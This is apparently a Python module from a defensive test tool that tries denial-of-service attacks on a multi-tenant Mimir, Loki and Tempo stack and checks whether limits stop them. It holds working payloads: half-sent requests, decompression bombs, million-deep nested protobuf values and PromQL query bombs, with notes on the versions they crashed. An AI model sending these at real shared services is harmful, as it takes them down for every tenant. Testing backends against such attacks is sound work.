"""Attacks on what all tenants share in a backend: its memory, its places, its processor.

None reads or writes a byte that is not the attacker's. Each was seen to stop one for everybody.
"""

from __future__ import annotations

import gzip
import re
import socket
import time
from collections.abc import Callable, Iterable, Iterator
from contextlib import ExitStack
from typing import Any
from urllib.parse import quote

import cramjam

from stackproof.errors import StackproofError
from stackproof.model import Backend, EntryPoint, Signal
from stackproof.otlp import synthetic
from stackproof.otlp.protobuf import field, varint
from stackproof.waiting import until

from .base import BACKENDS_LIMIT, Attack, AttackRun, Expect, backend_url, deed
from .payloads import REMOTE_WRITE
from .wire import WireRequest, http1, send


def gauge(attack_run: AttackRun, name: str, backend: Backend = Backend.MIMIR) -> float:
    """Return the sum of one of a backend's own metrics: how much of a shared thing is in use.

    Raises:
        StackproofError: The backend shows no such metric, or none to anybody.
    """
    target = attack_run.target
    url = f"{backend_url(target.stack, backend)}/metrics"
    text = target.client.pool.request("GET", url, retries=False).data.decode()
    values = re.findall(rf"^{name}(?:{{.*}})? (\S+)$", text, re.MULTILINE)
    if not values:
        raise StackproofError(f"there is no metric {name}: nothing is measured", where=url)
    return sum(map(float, values))


# --- places ---------------------------------------------------------------------------------------

_HALVES = 60
#: What honest senders may have under way meanwhile.
_UNDER_WAY = 10
#: How long a half export is given to get to the backend. [s]
_ARRIVES_S = 3.0


def _half_exports(attack_run: AttackRun) -> Iterable[str]:
    """Exports of which one byte comes: no backend may hear of them, and others are answered."""
    with ExitStack() as held:
        for number in range(_HALVES):
            # Half of them ask that nothing be waited for (RFC 10036).
            lines = [attack_run.own, *REMOTE_WRITE, *["Incremental: ?1"] * (number % 2)]
            head = http1(
                attack_run.gateway, "POST", "/api/v1/push", [*lines, "Content-Length: 999999"], b"x"
            )
            connection = held.enter_context(socket.create_connection(attack_run.gateway))
            connection.sendall(head.data)
        taken = until(
            lambda: gauge(attack_run, "cortex_distributor_inflight_push_requests"),
            lambda seen: seen > _UNDER_WAY,
            within_s=_ARRIVES_S,
        )
        if taken > _UNDER_WAY:
            yield f"{taken:.0f} of Mimir's places, which all tenants share, wait for half exports"
        answer = send(attack_run.write(Signal.METRICS, attack_run.own))
        if not answer.accepted:
            yield f"a whole export is not taken meanwhile: {answer.describe()}"


# --- memory ---------------------------------------------------------------------------------------

#: In all, and in one export: what Mimir unpacks holds no more.
_DESCRIBED, _AT_ONCE = 30_000, 5_000
#: What Mimir may keep for three tenants, and a little more. `max_global_metadata_per_user`
_KEPT = 20_000


def _described(names: Iterable[str]) -> bytes:
    """Return a remote write of descriptions alone.

    WriteRequest.metadata = 3; MetricMetadata.{metric_family_name = 2, help = 4}.
    """
    entries = (field(3, field(2, name) + field(4, "x" * 100)) for name in names)
    return bytes(cramjam.snappy.compress_raw(b"".join(entries)))


def _descriptions(attack_run: AttackRun) -> Iterable[str]:
    """Descriptions of metrics without a series: no limit on series or samples bounds them."""
    before = gauge(attack_run, "cortex_ingester_memory_metadata")
    # Not the bystander, whose samples are spent by floods of others.
    lines = [attack_run.own, *REMOTE_WRITE]
    for first in range(0, _DESCRIBED, _AT_ONCE):
        numbers = range(first, first + _AT_ONCE)
        body = _described(f"described_{attack_run.forged.run}_{number}" for number in numbers)
        answer = send(http1(attack_run.gateway, "POST", "/api/v1/push", lines, body))
    grown = gauge(attack_run, "cortex_ingester_memory_metadata") - before
    if grown > _KEPT:
        yield f"Mimir keeps {grown:.0f} descriptions in memory: {answer.describe()}"
    if not grown:
        yield f"Mimir keeps no description, so that its limit is unproven: {answer.describe()}"


def _allocating(
    api: str, query: str, hours: int, megabytes: int
) -> Callable[[AttackRun], Iterable[str]]:
    """Ask Loki, and look whether it has allocated more for that, in all, than an answer needs."""

    def after(attack_run: AttackRun) -> Iterable[str]:
        now = int(time.time())
        window = f"start={now - hours * 3600}&end={now}&step=300"
        path = f"/loki/api/v1/{api}?query={quote(query)}&{window}"
        allocated = "go_memstats_alloc_bytes_total"
        before = gauge(attack_run, allocated, Backend.LOKI)
        answer = send(http1(attack_run.gateway, "GET", path, [attack_run.own]))
        grown = (gauge(attack_run, allocated, Backend.LOKI) - before) / 1e6
        if grown > megabytes or not answer.statuses:
            yield f"Loki allocates {grown:.0f} MB for it: {answer.describe()}"

    return after


_YEARS = 30
_ONES = 300
_HOLLOW = 1_000_000


def _hollow(attack_run: AttackRun) -> Iterator[WireRequest]:
    """Empty resources, series and streams: two bytes each, packed to nearly nothing."""
    parts = field(1, b"") * _HOLLOW
    packed = gzip.compress(parts)
    for signal in Signal:
        yield attack_run.write(signal, attack_run.own, "Content-Encoding: gzip", body=packed)
    snappy = bytes(cramjam.snappy.compress_raw(parts))
    for path in ("/api/v1/push", "/loki/api/v1/push"):
        lines = [attack_run.own, *REMOTE_WRITE]
        yield http1(attack_run.gateway, "POST", path, lines, snappy)


_DEEP = 1_000_000


def nested(levels: int) -> bytes:
    """Return an AnyValue that is a list in a list in a list, and so on.

    AnyValue.array_value = 5; ArrayValue.values = 1.
    """
    size, heads = 0, []
    for _ in range(levels):
        inner = b"\x0a" + varint(size)
        heads.append(b"\x2a" + varint(len(inner) + size) + inner)
        size += len(heads[-1])
    return b"".join(reversed(heads))


def with_attribute(attack_run: AttackRun, signal: Signal, value: bytes) -> bytes:
    """Return the forged telemetry with one more attribute of its resource.

    Of a resource that stands twice the attributes are added up (protobuf). ExportRequest.resource_…
    = 1; Resource….resource = 1; Resource.attributes = 1; KeyValue.{key = 1, value = 2}.
    """
    message: Any = synthetic.make(attack_run.forged, signal)
    (part,) = getattr(message, f"resource_{'spans' if signal is Signal.TRACES else signal}")
    attribute = field(1, "deep") + field(2, value)
    return field(1, part.SerializeToString() + field(1, field(1, attribute)))


def _deep(attack_run: AttackRun) -> Iterator[WireRequest]:
    value = nested(_DEEP)
    # Tempo last: it takes it, and is busy with it for hours.
    for signal in (Signal.METRICS, Signal.LOGS, Signal.TRACES):
        packed = gzip.compress(with_attribute(attack_run, signal, value), 1)
        yield attack_run.write(signal, attack_run.own, "Content-Encoding: gzip", body=packed)


def _century(attack_run: AttackRun) -> Iterator[WireRequest]:
    """All moments of a century, written in every way that PromQL has."""
    for span in ("100y:1ms", "1y:1s", "36500d:1s", "1h:100ms", "999999999s : 1s", "9999w1ms:1m"):
        query = quote(f"count(max_over_time(vector(1)[{span}] offset 5m))")
        path = f"/prometheus/api/v1/query?query={query}"
        yield http1(attack_run.gateway, "GET", path, [attack_run.own])


# --- processor ------------------------------------------------------------------------------------

_TERMS = 5_000


def _endless_sum(attack_run: AttackRun) -> Iterator[WireRequest]:
    """1-1-…: Mimir's time for it grows faster than its length."""
    form = b"query=1" + b"-1" * _TERMS
    now = int(time.time())
    window = b"&start=%d&end=%d&step=1" % (now - 1, now)
    for path, body in (("query", form), ("query_range", form + window)):
        yield http1(
            attack_run.gateway,
            "POST",
            f"/prometheus/api/v1/{path}",
            [attack_run.own, "Content-Type: application/x-www-form-urlencoded"],
            body,
        )


_MANY_TERMS = 40_000


def _unread_sum(attack_run: AttackRun) -> Iterable[str]:
    """So long that to read it takes Mimir a minute, before it compares it with its limit."""
    path, query = "/prometheus/api/v1/query", "query=1" + "-1" * _MANY_TERMS
    form = "Content-Type: application/x-www-form-urlencoded"
    for method, target, body in (("POST", path, query.encode()), ("GET", f"{path}?{query}", None)):
        answer = send(http1(attack_run.gateway, method, target, [attack_run.own, form], body))
        if not answer.statuses or answer.accepted:
            yield f"{method}: it is being worked on: {answer.describe()}"


_DOUBLINGS = 22


def _growing_label(attack_run: AttackRun) -> Iterator[WireRequest]:
    """A label of eight letters that is doubled 22 times: 32 MB, in a question of a kilobyte."""
    grown = 'label_replace(vector(1), "a", "xxxxxxxx", "", "")'
    for _ in range(_DOUBLINGS):
        grown = f'label_replace({grown}, "a", "$1$1", "a", "(.*)")'
    yield http1(
        attack_run.gateway,
        "GET",
        f"/prometheus/api/v1/query?query={quote(f'count({grown})')}",
        [attack_run.own],
    )


#: Four times in a span that is smaller than a batch of Alloy.
_LEVELS = 8_000
#: Of Tempo's, for one span.
_CPU_S = 1.5


def _deep_span(attack_run: AttackRun) -> Iterable[str]:
    """A span with lists in lists in lists, to the attacker's own Alloy.

    ResourceSpans.{resource = 1, scope_spans = 2}; ScopeSpans.{scope = 1, spans = 2}; attributes: of
    a resource = 1, of a scope = 3, of a span = 9, of its event = 3; Span.events = 11.
    """
    target = attack_run.target
    message: Any = synthetic.make(attack_run.forged, Signal.TRACES)
    (part,) = message.resource_spans
    inside, *rest = part.scope_spans
    deep = field(1, "deep") + field(2, nested(_LEVELS))
    span, *others = (each.SerializeToString() for each in inside.spans)
    span += field(9, deep) + field(11, field(2, "deep") + field(3, deep))
    spans = b"".join(field(2, each) for each in (span, *others))
    scope = field(1, inside.scope.SerializeToString() + field(3, deep))
    resource = field(1, part.resource.SerializeToString() + field(1, deep))
    scopes = [scope + spans, *(each.SerializeToString() for each in rest)]
    body = field(1, resource + b"".join(field(2, each) for each in scopes))
    before = gauge(attack_run, "process_cpu_seconds_total", Backend.TEMPO)
    lines = ["Content-Type: application/x-protobuf"]
    answer = send(http1(attack_run.alloy, "POST", "/v1/traces", lines, body))
    try:
        target.wait_for(attack_run.forged, [Signal.TRACES])
    except StackproofError as error:
        yield f"Tempo works on it, or never got it: {answer.describe()}; {error}"
    used = gauge(attack_run, "process_cpu_seconds_total", Backend.TEMPO) - before
    if used > _CPU_S:
        yield f"Tempo works on it for more than {_CPU_S} s: {answer.describe()}"


EXHAUSTION: tuple[Attack, ...] = (
    deed(
        "half-exports",
        "begins many exports and ends none",
        "2,100 of one byte each: Mimir 3.0.5 takes 12 GB and answers no export (observed)",
        _half_exports,
        measures=True,
    ),
    deed(
        "flood-of-descriptions",
        "describes metrics that have no series",
        "max_global_metadata_per_user is off unless it is set (Mimir)",
        _descriptions,
        BACKENDS_LIMIT,
        measures=True,
    ),
    deed(
        "long-ago",
        f"counts the lines of {_YEARS} years",
        "[100y] becomes 876,000 queries: Loki 3.7.8 takes 1 GiB, and is killed (observed)",
        _allocating("query", f'count_over_time({{service_name="open-webui"}}[{_YEARS}y])', 1, 100),
        BACKENDS_LIMIT,
        measures=True,
    ),
    deed(
        "sum-of-a-day",
        f"asks Loki for the sum of {_ONES} ones, at each moment of a day",
        "600, cut into shards and hours: Loki 3.7.8 takes 1 GiB, and is killed (observed)",
        _allocating("query_range", "vector(1)" + "+1" * _ONES, 24, 1200),
        BACKENDS_LIMIT,
        measures=True,
    ),
    Attack(
        name="hollow-exports",
        does=f"exports {_HOLLOW:,} empty parts, packed to a few KB",
        source="5 MB of empty series: 2.9 GB of Mimir 3.0.5; 19 KB that unpack to 20 MB: 1.7 GB of "
        "Tempo (observed)",
        sends=_hollow,
        ineffective_because=BACKENDS_LIMIT,
        destroys=True,
    ),
    Attack(
        name="brackets-in-brackets",
        does=f"exports a list in a list in a list, {_DEEP:,} deep",
        source="3 MB packed: Mimir 3.0.5 and Loki 3.7.8 end at once, for everybody (observed)",
        sends=_deep,
        ineffective_because=BACKENDS_LIMIT,
        destroys=True,
    ),
    Attack(
        name="deep-span",
        entry_point=EntryPoint.ALLOY_HTTP,
        does=f"exports a span with lists in lists, {_LEVELS:,} deep, to its own Alloy",
        source="Tempo's time grows with the square of the depth: 20 s for 20,000 (observed)",
        expect=Expect.HARMLESS,
        after=_deep_span,
        ineffective_because="Alloy makes it flat",
        destroys=True,
        measures=True,
    ),
    Attack(
        name="century-by-milliseconds",
        does="asks for the largest of a one, at each moment of a century",
        source="Mimir 3.0.5 makes room before it compares that with its limit, and ends (observed)",
        sends=_century,
        ineffective_because=BACKENDS_LIMIT,
        destroys=True,
    ),
    Attack(
        name="endless-sum",
        does=f"asks for the sum of {_TERMS} ones",
        source="16,000 terms: no answer within a minute, and 2 GB of Mimir 3.0.5 (observed)",
        sends=_endless_sum,
        ineffective_because=BACKENDS_LIMIT,
    ),
    Attack(
        name="growing-label",
        does="asks for a label that is made of itself, again and again",
        source="Mimir 3.0.5 ends at once, for everybody (observed)",
        sends=_growing_label,
        ineffective_because=BACKENDS_LIMIT,
    ),
    deed(
        "unread-sum",
        f"asks for the sum of {_MANY_TERMS} ones, which no limit of Mimir's sees in time",
        "Mimir 3.0.5 parses before it compares the size: 30,000 terms, 30 s of a core (observed)",
        _unread_sum,
        destroys=True,
    ),
)
